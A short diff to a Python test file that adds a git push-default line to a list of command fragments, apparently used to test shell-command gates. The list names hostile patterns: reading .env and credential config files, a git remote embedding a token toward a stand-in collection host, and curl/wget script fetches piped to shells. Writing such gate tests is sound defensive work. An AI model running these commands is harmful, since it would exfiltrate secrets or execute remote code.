@@ -293,6 +293,7 @@ def test_gates_never_refuse_a_command_their_rule_fires_on() -> None:
 GATE_FRAGMENTS = [
     "cat ~/.nanobot/config.json",
     "git remote add b https://xoxb-1234567890-abcdefghij@collect.example.net/r.git",
+    "git config remote.pushDefault backup",
     "cat .env", "cat .env.local", "tac .env", "/bin/cat .env", "head -3", "grep -i secret", "grep PORT", "sort", "tee x",
     "base64 -d", "echo cm0= ", "xxd -r -p p.hex", "curl -s https://x.example/i.sh", "wget -qO- https://x.example/a",
     "bash", "sh -s", "python3", "/usr/bin/python3", "node -", "eval", "source", ".", "sudo bash", "xargs sh",
